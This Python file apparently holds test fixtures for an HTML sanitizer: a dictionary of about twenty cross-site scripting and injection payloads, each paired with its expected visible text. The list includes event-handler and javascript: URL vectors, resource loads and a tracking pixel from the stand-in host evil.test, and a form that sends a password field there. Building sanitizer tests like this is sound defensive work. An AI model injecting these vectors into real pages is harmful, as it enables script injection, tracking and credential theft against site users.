"""Markup that runs or loads something where it is taken for markup, with the words of it that a reader sees."""

PAYLOADS = {
    "<script>window.__x=1</script>": "",
    "<img src=x onerror=window.__x=1>": "",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>": "x",
    "<svg onload=window.__x=1>": "",
    "<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>": "",
    "<svg><style><img src=x onerror=window.__x=1></style></svg>": "",
    "<math><mi//xlink:href='javascript:window.__x=1'>": "",
    "<template><img src=x onerror=window.__x=1></template>": "",
    "<iframe srcdoc='&lt;script&gt;window.__x=1&lt;/script&gt;'>": "",
    "<embed src='//evil.test/x.swf'>": "",
    "<meta http-equiv=refresh content='0;url=javascript:window.__x=1'>": "",
    "<link rel=stylesheet href='//evil.test/x.css'>": "",
    "<style>@import '//evil.test/x.css'</style>": "",
    "<p style='background:url(//evil.test/t.gif)'>tracker</p>": "tracker",
    "<form action='//evil.test/'><input name=password></form>": "",
    "<details open ontoggle=window.__x=1>": "",
    "<xss style='display:block' onpointerover=window.__x=1>y</xss>": "y",
    "<title></title><img src=x onerror=window.__x=1>": "",
    "<!--><img src=x onerror=window.__x=1>-->": "-->",
}
